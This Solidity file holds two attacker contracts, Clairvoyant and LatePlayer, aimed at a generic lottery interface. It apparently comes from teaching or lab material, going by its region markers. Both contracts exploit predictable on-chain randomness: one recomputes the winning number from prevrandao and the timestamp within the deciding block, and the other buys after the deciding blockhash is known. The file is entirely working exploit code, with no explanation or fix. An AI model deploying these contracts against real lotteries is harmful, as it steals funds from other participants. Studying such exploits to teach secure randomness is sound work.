// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ILottery {
    function buy(uint256 number) external payable;
    function draw() external;
}

// #region attack
contract Clairvoyant {
    /// Buys the winning ticket and draws it, all in the block that decides.
    function attack(ILottery lottery) external payable {
        uint256 winning = (uint256(keccak256(abi.encode(block.prevrandao, block.timestamp))) % 1000) + 1;
        lottery.buy{value: msg.value}(winning);
        lottery.draw();
    }

    receive() external payable {}
}
// #endregion attack

// #region second
/// Buys any number, then the right one once the hash is known.
contract LatePlayer {
    function start(ILottery lottery) external payable {
        lottery.buy{value: msg.value}(1);
    }

    /// The winning number of this contract if `deciding` is the block.
    function winningNumber(uint256 deciding) public view returns (uint256) {
        return (uint256(keccak256(abi.encode(blockhash(deciding), address(this)))) % 1000) + 1;
    }

    function buyAgain(ILottery lottery, uint256 deciding) external payable {
        lottery.buy{value: msg.value}(winningNumber(deciding));
        lottery.draw();
    }

    /// Draws now, then buys for the hash that is already known.
    function drawAndBuy(ILottery lottery, uint256 deciding) external payable {
        lottery.draw();
        lottery.buy{value: msg.value}(winningNumber(deciding));
        lottery.draw();
    }

    receive() external payable {}
}
// #endregion second
